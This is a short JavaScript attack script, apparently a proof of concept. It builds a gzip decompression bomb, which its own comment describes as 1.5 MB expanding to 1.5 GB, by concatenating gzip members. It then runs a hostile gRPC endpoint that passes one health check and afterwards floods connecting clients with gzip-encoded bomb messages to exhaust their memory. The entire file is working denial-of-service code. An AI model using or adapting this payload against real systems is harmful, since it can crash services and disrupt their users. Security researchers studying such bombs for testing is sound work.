import { gzipSync } from 'node:zlib';
import { attackHost } from './lib/attack.js';
import { rawMessage } from './lib/raw-http2.js';

const member = gzipSync(Buffer.alloc(64 * 1024 * 1024));
/** 1.5 MB that become 1.5 GB: members of a gzip file follow one another. */
const bomb = rawMessage(Buffer.concat(Array.from({ length: 24 }, () => member)), true);

let checks = 0;

attackHost({
  answer(stream) {
    checks += stream.path === '/grpc.health.v1.Health/Check' ? 1 : 0;
    if (stream.path.startsWith('/plugin.') || checks <= 1) return false;
    stream.begin(['grpc-encoding', 'gzip']);
    stream.flood(() => bomb);
    return true;
  },
});
